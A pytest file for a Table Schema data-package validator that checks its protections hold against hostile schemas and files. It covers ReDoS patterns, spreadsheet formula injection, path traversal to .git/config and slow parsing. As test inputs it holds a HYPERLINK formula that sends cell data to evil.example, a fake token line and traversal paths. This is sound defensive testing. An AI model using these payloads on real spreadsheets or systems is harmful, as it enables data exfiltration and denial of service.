"""Hostile input, round 3 (issue 19): the attacker writes the schema too.

A pull request controls its own datapackage.json and schema/*.json, so a protection that lived in the
schema could be switched off by the change it judges. Each test here gives the package a schema that
tries to, and checks that the protection (now code: cotw/check/protect.py) still holds; and each scan a
hostile file can reach is timed on an input and on one twice its size, in a child process with a
deadline and an address-space limit, and must grow about linearly. Every case failed before its fix.
"""
from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import cotw
from conftest import edit_csv

MEMORY = 4 * 2**30  # address space of a child process: a scan that builds without bound fails instead of swapping
SECRET = "ghp_S3CRETt0kenNOBODYmaySEEz9y8x7w6v5u4"


def rows(path: Path) -> list[dict]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def edit_json(path: Path, change) -> None:
    value = json.loads(path.read_text(encoding="utf-8"))
    change(value)
    path.write_text(json.dumps(value, indent=2), encoding="utf-8")


def field(schema: dict, name: str) -> dict:
    return next(f for f in schema["fields"] if f["name"] == name)


def _limits() -> None:
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))


def child(code: str, timeout: float = 120) -> object:
    """Run `code` in a fresh Python (cotw from this checkout, MEMORY of address space, a deadline: a
    regression fails instead of hanging CI) and return the JSON value its last line prints."""
    here = str(Path(cotw.__file__).resolve().parents[1])  # the cotw this test imported
    env = dict(os.environ, PYTHONPATH=os.pathsep.join([here, os.environ.get("PYTHONPATH", "")]))
    result = subprocess.run([sys.executable, "-c", textwrap.dedent(code)], capture_output=True, text=True, timeout=timeout,
                            env=env, preexec_fn=_limits)
    assert result.returncode == 0, result.stderr[-3000:]
    return json.loads(result.stdout.splitlines()[-1])


def linear(setup: str, make: str, act: str, n: int, timeout: float = 120) -> None:
    """`act(x)` on x = `make(n)` and on `make(2n)`, in CPU seconds of the child (what other processes on the
    machine do barely moves them): the second may take at most 2.5 times the first (plus 20 ms for timer
    noise). A quadratic scan takes 4 times, or the deadline. Where the first takes under 50 ms, n is doubled
    first (at most 16 times), so that noise is small beside it. Then the runs alternate, small then large,
    the best of three of each, and of up to nine while the second is still over: a best time only falls
    (in a full run under load, three small runs then three large ones once gave 3.0x)."""
    act = "\n".join("    " + line for line in act.splitlines())
    code = (f"import json, time\n{setup}\n"
            f"def make(n):\n    return {make}\n"
            "def once(x):\n    t = time.process_time()\n"
            f"{act}\n"
            "    return time.process_time() - t\n"
            "def run(n):\n    x = make(n)\n    return min(once(x) for _ in range(3))\n"
            f"n = {n}\n"
            "run(n // 8)\n"  # warm up: imports, caches
            "small = run(n)\n"
            "for _ in range(4):\n    if small >= 0.05:\n        break\n    n *= 2\n    small = run(n)\n"
            "xs, xl = make(n), make(2 * n)\n"
            "small = large = float('inf')\n"
            "for done in range(1, 10):\n"
            "    small, large = min(small, once(xs)), min(large, once(xl))\n"
            "    if done >= 3 and large <= 2.5 * small + 0.02:\n        break\n"
            "print(json.dumps([small, large]))\n")
    small, big = child(code, timeout)
    assert big <= 2.5 * small + 0.02, f"doubling the input took {big:.3f} s after {small:.3f} s: not linear"


# --- finding 1: every pattern runs on RE2 ----------------------------------------------------------------

def test_a_catastrophic_pattern_runs_in_linear_time():
    """`(\\w+)+y` on Python's re: 8 s at 25 characters, 1.5 times more per character. On RE2: linear."""
    linear("import pyarrow as pa\nfrom cotw.check.blocks import fullmatch",
           'pa.chunked_array([pa.array([f"{i}" + "a" * n + "!" for i in range(20)], pa.large_string())])',
           'fullmatch(x, r"(\\w+)+y")', 200_000)


def test_a_catastrophic_pattern_in_a_schema_is_answered_quickly(pkg):
    """End to end: the pattern in the package's own schema, a cell of 40 word characters (years on Python's re)."""
    edit_json(pkg / "schema/sources.json", lambda s: field(s, "notes")["constraints"].__setitem__("pattern", r"(\w+)+y"))
    edit_csv(pkg / "data/sources.csv", 2, "notes", "a" * 40 + "!")
    got = child(f"""
        import json, cotw
        r = cotw.validate({str(pkg)!r})
        print(json.dumps([p.text() for p in r.problems if p.rule == "pattern"][:3]))
    """, timeout=90)
    assert any("does not match the pattern (\\w+)+y" in p for p in got), got


# Python's meaning of a pattern, which frictionless (and the Table Schema users of cotw) rely on, is kept:
ATOMS = [r"\d", r"\D", r"\w", r"\W", r"\s", r"\S", ".", "a", "é", "5", "-", r"\.", r"[\w-]", r"[^\d]", r"[\s\d]",
         r"[]a]", r"\u00e9", r"\x41", r"\N{DIGIT ONE}", "[a-z]", "(?i:a)"]
QUANT = ["", "*", "+", "?", "{2}", "{,2}", "{1,3}"]
CHARS = "aAé5١٣_- \t\n.\u00a0\u2003x!ßǅ𝟙"


@settings(max_examples=400, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(st.tuples(st.sampled_from(ATOMS), st.sampled_from(QUANT)), min_size=1, max_size=4),
       st.lists(st.text(CHARS, max_size=6), min_size=1, max_size=8), st.booleans())
def test_re2_gives_a_pattern_pythons_meaning(parts, cells, grouped):
    import pyarrow as pa

    from cotw.check.protect import fullmatch

    pattern = "".join(f"(?:{a}){q}" if grouped else a + q for a, q in parts)
    got = fullmatch(pa.chunked_array([pa.array(cells, pa.large_string())]), pattern).to_pylist()
    assert got == [re.fullmatch(pattern, c) is not None for c in cells], pattern


@pytest.mark.parametrize("escape", ["s", "d", "w"])
def test_the_class_of_an_escape_is_every_code_point_pythons_re_gives_it(escape):
    """\\s (known for this Python's Unicode version, else found by str.split: issue 19's speed-up, as the shipped
    sources.url uses \\S) and \\d (the gaps of \\D) name exactly the code points a scan of the whole code space
    with Python's own `re` finds."""
    from cotw.check import protect

    want = []
    for lo, hi in ((0, 0xD800), (0xE000, 0x110000)):
        chars = "".join(map(chr, range(lo, hi)))
        want += [(lo + m.start(), lo + m.end() - 1) for m in re.finditer(f"\\{escape}+", chars)]
    assert list(protect._ranges(escape)) == want
    assert list(protect._scan(escape)) == want


@pytest.mark.parametrize("pattern,why", [
    (r"a\bb", "uses \\b, a word boundary"),
    (r"(a)\1", "uses \\1 (a back-reference or an octal escape)"),
    (r"(?=a)a", "RE2 rejects it"),
])
def test_a_pattern_re2_cannot_run_is_a_located_schema_error(pkg, cli, pattern, why):
    edit_json(pkg / "schema/sources.json", lambda s: field(s, "notes")["constraints"].__setitem__("pattern", pattern))
    r = cli("check", pkg)
    assert r.exit_code == 1
    (line,) = [x for x in r.stdout.splitlines() if x.endswith("[table-schema]")]
    assert line.startswith(f"schema/sources.json: sources: field 'notes' pattern {pattern!r} cannot be used: ") and why in line, line


def test_the_library_refuses_a_pattern_re2_cannot_run_instead_of_backtracking():
    import pyarrow as pa

    from cotw.check.blocks import fullmatch
    from cotw.check.protect import PatternRefused

    with pytest.raises(PatternRefused, match="RE2 rejects it"):
        fullmatch(pa.chunked_array([pa.array(["cx"], pa.large_string())]), "(?=c).*")


# --- finding 12: the safe-text rules hold whatever the schema says -----------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("change", [
    {"constraints": {"pattern": "(?s).*"}},        # a match-all pattern
    {"constraints": {"enum": [FORMULA, "x"]}},      # a vocabulary that lists it
    {"format": "uri"},                              # a format cotw does not check
    {"type": "any"},                                # no type at all
], ids=["pattern", "enum", "format", "any"])
def test_no_schema_switches_off_the_formula_rule(pkg, cli, change):
    edit_json(pkg / "schema/sources.json", lambda s: field(s, "notes").update(change))
    edit_csv(pkg / "data/sources.csv", 2, "notes", FORMULA)
    r = cli("check", pkg)
    assert r.exit_code == 1
    assert any(x.startswith("data/sources.csv:2: notes '=HYPERLINK(") and x.endswith("[formula-prefix]") for x in r.stdout.splitlines()), r.stdout


def test_a_formula_in_a_boolean_field_with_its_own_true_values_is_refused(pkg, cli):
    edit_json(pkg / "schema/sources.json", lambda s: field(s, "notes").update(
        {"type": "boolean", "trueValues": [FORMULA], "falseValues": sorted({r["notes"] for r in rows(pkg / "data/sources.csv")})}))
    edit_csv(pkg / "data/sources.csv", 2, "notes", FORMULA)
    r = cli("check", pkg)
    assert any(x.startswith("data/sources.csv:2: notes '=HYPERLINK(") and x.endswith("[formula-prefix]") for x in r.stdout.splitlines()), r.stdout


def test_a_control_character_is_refused_in_a_field_of_any_type(pkg, cli):
    edit_json(pkg / "schema/sources.json", lambda s: field(s, "notes").update({"type": "any", "constraints": {"pattern": "(?s).*"}}))
    edit_csv(pkg / "data/sources.csv", 2, "notes", "bell\x07")
    r = cli("check", pkg)
    assert any(x.startswith("data/sources.csv:2: notes 'bell") and x.endswith("[control-character]") for x in r.stdout.splitlines()), r.stdout


def test_a_cell_longer_than_a_spreadsheet_cell_is_refused_without_max_length(pkg, cli):
    """The schema's maxLength was the only bound on a cell: without it, a cell the Excel download cannot hold passed."""
    edit_json(pkg / "schema/sources.json", lambda s: field(s, "notes")["constraints"].pop("maxLength", None))
    edit_csv(pkg / "data/sources.csv", 2, "notes", "word " * 7000)
    r = cli("check", pkg)
    assert "data/sources.csv:2: notes is 35,000 characters long; a cell may hold at most 32,767, the most a spreadsheet cell holds, " \
           "so the Excel download could not carry it (shorten the text: quote only the words that support the row) [cell-length]" in r.stdout, r.stdout


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example","x")', "@SUM(1)", "-2+3", "a\x07b"])
def test_a_field_name_that_would_run_as_a_formula_is_refused(pkg, cli, name):
    """A field name heads its column in every CSV download: the schema (and the CSV header) may not make it a formula."""
    edit_json(pkg / "schema/sources.json", lambda s: field(s, "notes").__setitem__("name", name))
    path = pkg / "data/sources.csv"
    text = path.read_text(encoding="utf-8")
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\n").writerow([name if h == "notes" else h for h in text.split("\n", 1)[0].split(",")])
    path.write_text(buf.getvalue() + text.split("\n", 1)[1], encoding="utf-8")
    r = cli("check", pkg)
    assert r.exit_code == 1
    assert any(x.startswith("schema/sources.json: sources: field name ") and x.endswith("[table-schema]") for x in r.stdout.splitlines()), r.stdout


def test_the_formula_does_not_reach_the_csv_download(pkg, cli, tmp_path):
    edit_json(pkg / "schema/sources.json", lambda s: field(s, "notes")["constraints"].__setitem__("pattern", "(?s).*"))
    edit_csv(pkg / "data/sources.csv", 2, "notes", FORMULA)
    r = cli("export", pkg, "--out", tmp_path / "out", "--only", "csv")
    assert r.exit_code != 0
    assert not any("HYPERLINK" in p.read_text(encoding="utf-8", errors="replace") for p in (tmp_path / "out").rglob("*.csv")) \
        if (tmp_path / "out").exists() else True


def test_a_negative_number_is_no_formula(pkg, cli):
    """Numbers are exempt by their type (whose check is code): -5 is a number, not a formula."""
    claims = rows(pkg / "data/claims.csv")
    assert cli("check", pkg).exit_code == 0
    if not claims:
        pytest.skip("no claims curated yet")
    edit_csv(pkg / "data/claims.csv", 2, "value_min", "-5")
    r = cli("check", pkg)
    assert "[formula-prefix]" not in r.stdout


# --- finding 3: archives only under seeds/, hints only from the archive that was curated --------------

TOKEN_LINE = f'[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic {SECRET}\n'


def cite_archive(pkg: Path, archive: str, sha256: str | None = "0" * 64) -> tuple[int, str]:
    """Make the source of conditions.csv's first row cite `archive`, with the archive pattern dropped from the
    schema (so only code stands in the way), and make that row's evidence start like the token line and go
    on with 25 characters: the hint would show the next 25 characters of the secret."""
    edit_json(pkg / "schema/sources.json", lambda s: [field(s, c)["constraints"].pop("pattern", None) for c in ("archive", "sha256")])
    sid = rows(pkg / "data/conditions.csv")[0]["source_id"]
    line = next(i for i, r in enumerate(rows(pkg / "data/sources.csv"), start=2) if r["source_id"] == sid)
    edit_csv(pkg / "data/sources.csv", line, "archive", archive)
    if sha256 is not None:
        edit_csv(pkg / "data/sources.csv", line, "sha256", sha256)
    edit_csv(pkg / "data/conditions.csv", 2, "evidence", "extraheader = AUTHORIZATION: basic " + "Q" * 25)
    return line, sid


def assert_secret_unseen(r) -> None:
    assert SECRET[:6] not in r.stdout + r.stderr
    assert "S3CRE" not in r.stdout + r.stderr


@pytest.mark.parametrize("archive", [".git/config", "seeds/.git/config", "seeds/../.git/config", "data/config.txt", "config.txt"])
def test_an_archive_outside_seeds_or_hidden_is_not_read(pkg, cli, archive):
    (pkg / ".git").mkdir()
    (pkg / "seeds/.git").mkdir()
    for where in (".git/config", "seeds/.git/config", "data/config.txt", "config.txt"):
        (pkg / where).write_text(TOKEN_LINE, encoding="utf-8")
    line, sid = cite_archive(pkg, archive)
    r = cli("check", pkg)
    assert r.exit_code == 1
    assert_secret_unseen(r)
    refused = [x for x in r.stdout.splitlines() if x.startswith(f"data/sources.csv:{line}: archive {archive!r}") and x.endswith("[unsafe-path]")]
    assert refused, r.stdout


def test_an_archive_linked_to_a_hidden_file_of_the_package_is_not_read(pkg, cli):
    """seeds/x.txt -> ../.git/config stays inside the package (safeio follows it), but is no archive."""
    (pkg / ".git").mkdir()
    (pkg / ".git/config").write_text(TOKEN_LINE, encoding="utf-8")
    (pkg / "seeds/x.txt").symlink_to("../.git/config")
    line, sid = cite_archive(pkg, "seeds/x.txt")
    r = cli("check", pkg)
    assert_secret_unseen(r)
    assert f"data/sources.csv:{line}: archive 'seeds/x.txt' of source {sid!r} resolves (through a symbolic link) to '.git/config', which has " \
           "a hidden or dot component" in r.stdout, r.stdout


def test_no_word_of_an_archive_whose_sha256_does_not_match_is_shown(pkg, cli):
    """An archive under seeds/ that is not the text curated: no quote is looked up in it, so neither a hint
    nor whether a quote occurs tells anything about it."""
    (pkg / "seeds/x.txt").write_text(TOKEN_LINE, encoding="utf-8")
    line, sid = cite_archive(pkg, "seeds/x.txt")
    r = cli("check", pkg)
    assert_secret_unseen(r)
    assert any(x.startswith(f"data/sources.csv:{line}: seeds/x.txt has sha256 ") and "no quote is looked up in it" in x for x in r.stdout.splitlines())
    assert "[verbatim]" not in r.stdout


def test_an_archive_without_a_sha256_is_unverified(pkg, cli):
    (pkg / "seeds/x.txt").write_text(TOKEN_LINE, encoding="utf-8")
    edit_json(pkg / "schema/sources.json", lambda s: field(s, "sha256")["constraints"].pop("required", None))
    line, sid = cite_archive(pkg, "seeds/x.txt", sha256="")
    r = cli("check", pkg)
    assert_secret_unseen(r)
    assert any(x.startswith(f"data/sources.csv:{line}: source {sid!r} records no sha256 for its archive 'seeds/x.txt'")
               and x.endswith("[archive-unverified]") for x in r.stdout.splitlines()), r.stdout
    assert "[verbatim]" not in r.stdout


def test_a_curated_archive_still_gives_its_hint(pkg):
    """The shipped archives match their sha256: the verbatim hint works as before."""
    edit_csv(pkg / "data/conditions.csv", 2, "evidence", rows(pkg / "data/conditions.csv")[0]["evidence"][:40] + " Zq")
    (p,) = [p for p in cotw.validate(pkg).problems if p.rule == "verbatim" and p.line == 2]
    assert "the first 40 characters match; then the cell has" in p.hint


# --- finding 2: the JSON reader is linear -------------------------------------------------------------

def test_an_unclosed_string_of_escaped_quotes_is_read_in_linear_time():
    """40 kB took 16 s, 80 kB 57 s (the token scan retried from every quote of the unclosed string)."""
    linear("from cotw.io.jsonload import JSONError, loads",
           """('{"x": "' + '\\\\"' * n).encode()""",
           "try:\n    loads(x, 'd.json')\nexcept JSONError:\n    pass", 2_000_000)


def test_the_locating_scan_is_linear_too():
    """The scan that says on which line a duplicate key or a bare NaN is: the same text, directly."""
    linear("from cotw.io.jsonload import _scan", """'{"x": "' + '\\\\"' * n""", "_scan(x, 'd.json')", 2_000_000)


def test_a_hostile_descriptor_is_answered_quickly(pkg):
    text = (pkg / "datapackage.json").read_text(encoding="utf-8")
    (pkg / "datapackage.json").write_text(text[:-2] + ', "x": "' + '\\"' * 200_000, encoding="utf-8")
    got = child(f"""
        import json, cotw
        print(json.dumps([p.message for p in cotw.validate({str(pkg)!r}).problems]))
    """, timeout=60)
    assert got == ["datapackage.json is not valid JSON: Unterminated string starting at (column 9)"] or \
        all("not valid JSON: Unterminated string" in m for m in got), got


# --- finding 7: the descriptor's shape is checked in linear time -----------------------------------------

def test_a_long_media_type_is_checked_in_linear_time():
    """^(.+)/(.+)$ backtracked: 60 kB took 39 s."""
    linear("from cotw.check import profile",
           '{"resources": [{"name": "r", "path": "a.csv", "mediatype": "/" * n + "\\nx"}]}',
           "list(profile.errors(x, profile.PACKAGE))", 400_000)


def test_a_media_type_must_be_type_and_subtype(pkg, cli):
    edit_json(pkg / "datapackage.json", lambda d: d["resources"][0].__setitem__("mediatype", "csv"))
    r = cli("check", pkg)
    assert "datapackage.json: at resources/0/mediatype: 'csv' is not a media type (type/subtype, such as 'text/csv') [profile]" in r.stdout


# --- also found: a number cell -----------------------------------------------------------------------

def test_a_long_cell_of_a_number_field_is_read_in_linear_time():
    """NUMBER split a run of digits every way before failing: 20,000 digits and an 'x' took 36 s."""
    linear("from cotw.check.blocks import number", '"1" * n + "x"', "number(x)", 2_000_000)
